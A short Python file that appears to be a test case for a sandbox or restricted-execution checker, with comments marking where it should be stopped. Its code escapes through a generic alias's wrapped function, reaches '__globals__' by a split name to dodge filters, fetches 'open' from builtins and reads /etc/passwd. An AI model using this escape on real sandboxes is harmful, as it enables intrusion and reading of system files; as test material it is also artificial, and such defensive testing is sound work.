# tries: an alias's wrapped object, by computed name
# class: reader
# stops: 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import json

alias = type(list[int])(json.dumps, int)
use(dig(getattr(alias, "__glo" "bals__")))
